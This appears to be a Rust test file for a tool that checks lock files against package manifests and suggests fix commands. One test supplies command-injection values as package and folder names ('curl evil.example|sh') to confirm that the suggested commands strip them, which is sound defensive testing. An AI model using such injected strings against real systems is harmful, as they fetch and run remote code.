use std::rc::Rc;

use super::super::samples::{self, lock, manifest, told};
use super::*;

fn found(packages: &Packages, files: &[(&str, &str)]) -> Vec<String> {
    let text = |path: &str| files.iter().find(|(name, _)| *name == path).map(|(_, text)| Rc::from(*text));
    told(&findings(packages, &text, &CancellationToken::new()))
}

const PACKAGE: &str = "package.json";

#[test]
fn what_is_asked_for_and_not_locked_is_told() {
    let lock = lock(Manager::Npm, "package-lock.json", PACKAGE, &["zod 4.1.0 ^4", "kept 1.0.0 ^1"]);
    let packages = samples::packages(vec![manifest(PACKAGE, &["zod ^4", "kept ^1", "new-one ^2"])], vec![lock]);
    assert_eq!(
        found(&packages, &[]),
        [
            "major package.json:5: `package-lock.json` does not fit `package.json`: `new-one` is asked for, and the lock file does not have it"
        ]
    );
    // The lock file names it after all, in a place that was not understood.
    assert_eq!(found(&packages, &[("package-lock.json", "\"node_modules/new-one\": 5")]), Vec::<String>::new());
}

#[test]
fn a_range_that_the_lock_file_was_not_made_for_is_told() {
    for (manager, path) in [(Manager::Pnpm, "pnpm-lock.yaml"), (Manager::YarnBerry, "yarn.lock")] {
        let lock = lock(manager, path, PACKAGE, &["zod 4.1.0 npm:^4.0.0", "same 1.0.0 npm:^1.0.0"]);
        let packages = samples::packages(vec![manifest(PACKAGE, &["zod ^4.1.0", "same ^1.0.0"])], vec![lock]);
        let told = found(&packages, &[]);
        assert_eq!(told.len(), 1, "{told:?}");
        assert!(told[0].starts_with("major package.json:3"), "{told:?}");
        assert!(
            told[0].ends_with("`zod` is asked for as `^4.1.0`, and the lock file was made for `npm:^4.0.0`"),
            "{told:?}"
        );
    }
}

#[test]
fn what_the_manifest_no_longer_asks_for_is_told_where_its_text_does_not_name_it() {
    let lock = lock(Manager::Pnpm, "pnpm-lock.yaml", PACKAGE, &["gone 1.0.0 ^1", "zod 4.0.0 ^4"]);
    let packages = samples::packages(vec![manifest(PACKAGE, &["zod ^4"])], vec![lock]);
    let told = found(&packages, &[(PACKAGE, "{\"dependencies\": {\"zod\": \"^4\"}}")]);
    assert_eq!(told.len(), 1);
    assert!(told[0].ends_with("`gone` is locked, and the manifest no longer asks for it"), "{told:?}");
    assert_eq!(found(&packages, &[(PACKAGE, "{\"odd\": {\"gone\": \"^1\"}}")]), Vec::<String>::new());
    assert_eq!(found(&packages, &[]), Vec::<String>::new(), "the text is not known");
}

#[test]
fn what_need_not_be_locked_is_not_missed() {
    let mut ours = manifest(
        PACKAGE,
        &["optional ^1", "@shop/ui *", "other ^2", "fork x", "cat catalog:", "forced ^1", "twice >=1", "twice >=2"],
    );
    ours.declared[0].optional = true;
    ours.declared[2].alias = Some("called".to_owned());
    ours.declared[3].source = Source::Git;
    ours.overrides = vec!["forced".to_owned()];
    let mut member = manifest("packages/ui/package.json", &[]);
    member.name = Some("@shop/ui".to_owned());
    let mut lock = lock(Manager::Npm, "package-lock.json", PACKAGE, &["called 2.0.0 npm:other@^2", "forced 9.0.0 ^1"]);
    lock.packages[0].name = "other".to_owned();
    let packages = samples::packages(vec![ours, member], vec![lock]);
    assert_eq!(found(&packages, &[]), Vec::<String>::new());
}

#[test]
fn one_package_may_stand_in_for_another() {
    let mut lock = lock(Manager::Pnpm, "pnpm-lock.yaml", PACKAGE, &["wanted 1.0.0 ^1"]);
    let asks = || vec![manifest(PACKAGE, &["wanted ^2"])];
    assert_eq!(found(&samples::packages(asks(), vec![lock.clone()]), &[]).len(), 1);
    lock.packages[0].name = "stands-in".to_owned();
    assert_eq!(found(&samples::packages(asks(), vec![lock]), &[]), Vec::<String>::new());
}

#[test]
fn hooks_programs_and_workspace_overrides_are_left_alone() {
    let lock = |manager, path: &str, manifest: &str| lock(manager, path, manifest, &["zod 3.0.0 3"]);
    let pnpm =
        samples::packages(vec![manifest(PACKAGE, &["zod ^4"])], vec![lock(Manager::Pnpm, "pnpm-lock.yaml", PACKAGE)]);
    assert_eq!(found(&pnpm, &[]).len(), 1);
    assert_eq!(found(&pnpm, &[(".pnpmfile.cjs", "")]), Vec::<String>::new());
    assert_eq!(found(&pnpm, &[("pnpm-workspace.yaml", "overrides:\n  zod: 3\n")]), Vec::<String>::new());
    let gems = samples::packages(
        vec![manifest("Gemfile", &["zod ~> 4"])],
        vec![lock(Manager::Bundler, "Gemfile.lock", "Gemfile")],
    );
    assert_eq!(found(&gems, &[("Gemfile", "gem 'zod', '~> 4'\n")]).len(), 1);
    assert_eq!(found(&gems, &[("Gemfile", "gem 'zod', '~> 4' if ENV['X']\n")]), Vec::<String>::new());
}

#[test]
fn coverage_says_what_was_not_compared() {
    let all = |paths: &[&str]| Locks { all: paths.iter().map(|path| (*path).to_owned()).collect(), unread: Vec::new() };
    let npm = lock(Manager::Npm, "package-lock.json", PACKAGE, &[]);
    let whole = samples::packages(vec![manifest(PACKAGE, &[])], vec![npm.clone()]);
    assert_eq!(coverage(&whole, &all(&["package-lock.json"]), &|_| None), Coverage::Whole);
    let alone = samples::packages(Vec::new(), vec![npm]);
    assert!(
        matches!(coverage(&alone, &all(&["package-lock.json"]), &|_| None), Coverage::Part(why) if why.contains("package.json"))
    );
    assert!(matches!(coverage(&alone, &Locks::default(), &|_| None), Coverage::Absent(_)));
    let unread = Locks { unread: vec!["bun.lockb".to_owned()], ..all(&["bun.lockb"]) };
    assert_eq!(coverage(&whole, &unread, &|_| None), Coverage::Part("`bun.lockb` was not read".to_owned()));
}

#[test]
fn what_a_manifest_leaves_open_is_no_silence() {
    let all = |path: &str| Locks { all: vec![path.to_owned()], unread: Vec::new() };
    let gems = |manifest: Manifest| {
        samples::packages(vec![manifest], vec![lock(Manager::Bundler, "Gemfile.lock", "Gemfile", &[])])
    };
    let text = |text: &'static str| move |path: &str| (path == "Gemfile").then(|| text.into());
    let plain = gems(manifest("Gemfile", &[]));
    assert_eq!(coverage(&plain, &all("Gemfile.lock"), &text("gem 'a'\n")), Coverage::Whole);
    let programmed = coverage(&plain, &all("Gemfile.lock"), &text("gem 'a' if ENV['X']\n"));
    assert!(matches!(&programmed, Coverage::Part(why) if why.contains("`Gemfile` is a program")), "{programmed:?}");
    let mut open = manifest("Gemfile", &[]);
    open.gaps.add(crate::probe::packages::manifest::reason::DYNAMIC, "line 3");
    let told = coverage(&gems(open), &all("Gemfile.lock"), &text("gem name\n"));
    assert_eq!(told, Coverage::Part("`Gemfile` has 1 entry that only a program can work out".to_owned()));
    let pnpm =
        samples::packages(vec![manifest(PACKAGE, &[])], vec![lock(Manager::Pnpm, "pnpm-lock.yaml", PACKAGE, &[])]);
    let hooked = coverage(&pnpm, &all("pnpm-lock.yaml"), &|path| (path == ".pnpmfile.cjs").then(|| "".into()));
    assert!(matches!(&hooked, Coverage::Part(why) if why.contains(".pnpmfile.cjs")), "{hooked:?}");
}

#[test]
fn the_command_raises_what_differs_and_nothing_else() {
    let fix = |manager, path: &str, named: &str, asks: &[&str]| {
        let lock = lock(manager, path, named, &[]);
        let packages = samples::packages(vec![manifest(named, asks)], vec![lock]);
        let text = |file: &str| (file == path).then(|| Rc::from("{}"));
        findings(&packages, &text, &CancellationToken::new())[0].fix.clone()
    };
    let composer = |asks: &[&str]| fix(Manager::Composer, "composer.lock", "composer.json", asks);
    assert!(composer(&["b/two ^2", "a/one ^1"]).starts_with("Run `composer update a/one b/two`, run the tests"));
    assert!(fix(Manager::Pipenv, "Pipfile.lock", "Pipfile", &["flask ==2"]).starts_with("Run `pipenv upgrade flask`"));
    assert!(
        fix(Manager::Pdm, "pdm.lock", "pyproject.toml", &["flask ==2"]).starts_with("Run `pdm lock --update-reuse`")
    );
    let hash = [Difference { words: String::new(), name: None, line: None, hard: false }];
    assert_eq!(command(Manager::Composer, &hash).as_deref(), Some("composer update --lock"));
    assert_eq!(command(Manager::Pipenv, &hash).as_deref(), Some("pipenv lock"));
    let hostile = composer(&["a/x;curl${IFS}evil.example|sh ^1"]);
    assert!(!hostile.contains('`') && !hostile.contains("evil"), "{hostile}");
    let npm = |folder: &str| {
        let (path, named) = (format!("{folder}/package-lock.json"), format!("{folder}/package.json"));
        fix(Manager::Npm, &path, &named, &["zod ^4"])
    };
    assert!(npm("my shop").starts_with("Run `cd \"my shop\" && npm install --package-lock-only`"));
    let hostile = npm("a;curl evil.example|sh");
    assert!(!hostile.contains('`') && !hostile.contains("evil"), "{hostile}");
}

#[test]
fn a_lock_file_is_read_once_for_all_names_and_no_further_than_wanted() {
    let asks: Vec<String> = (0..400).map(|number| format!("pkg-{number} ^1")).collect();
    let asks: Vec<&str> = asks.iter().map(String::as_str).collect();
    let lock = lock(Manager::Npm, "package-lock.json", PACKAGE, &[]);
    let packages = samples::packages(vec![manifest(PACKAGE, &asks)], vec![lock]);
    let read = std::cell::Cell::new(0);
    let text = |path: &str| {
        read.set(read.get() + usize::from(path == "package-lock.json"));
        Some(Rc::from(if path == "package-lock.json" { "{\"packages\": \"pkg_7\"}" } else { "{}" }))
    };
    let cancel = CancellationToken::new();
    let seen = told(&findings(&packages, &text, &cancel));
    assert!(seen.len() == 1 && seen[0].ends_with("and 398 more"), "{seen:?}");
    assert!(read.get() <= 2, "read {} times", read.get());
    cancel.cancel();
    assert_eq!(findings(&packages, &text, &cancel), []);
}

#[test]
fn a_hash_is_compared_in_large_lock_files_and_its_silence_is_told() {
    let asks = "{\"require\": {\"a/b\": \"^1\"}}";
    let filler = "x".repeat(3 * 1024 * 1024);
    let lock = format!(
        "{{\"content-hash\": \"00\", \"packages\": [{{\"name\": \"a/b\", \"version\": \"1.0.0\", \"description\": \"{filler}\"}}], \
         \"packages-dev\": []}}"
    );
    let (folder, repo, packages) = samples::project(&[("composer.json", asks), ("composer.lock", &lock)]);
    let text = |path: &str| repo.text(path);
    let told = told(&findings(&packages, &text, &CancellationToken::new()));
    assert_eq!(told.len(), 1);
    assert!(told[0].contains("`content-hash` is another one"), "{told:?}");
    assert_eq!(coverage(&packages, &Locks::of(&repo, &packages), &text), Coverage::Whole);
    // Gone, or grown, since it was read.
    std::fs::remove_file(folder.path().join("composer.lock")).unwrap();
    let cut = |path: &str| repo.text(path).filter(|_| path != "composer.lock");
    let how = coverage(&packages, &Locks::of(&repo, &packages), &cut);
    assert!(matches!(&how, Coverage::Part(why) if why.contains("`composer.lock` could not be read")), "{how:?}");
}
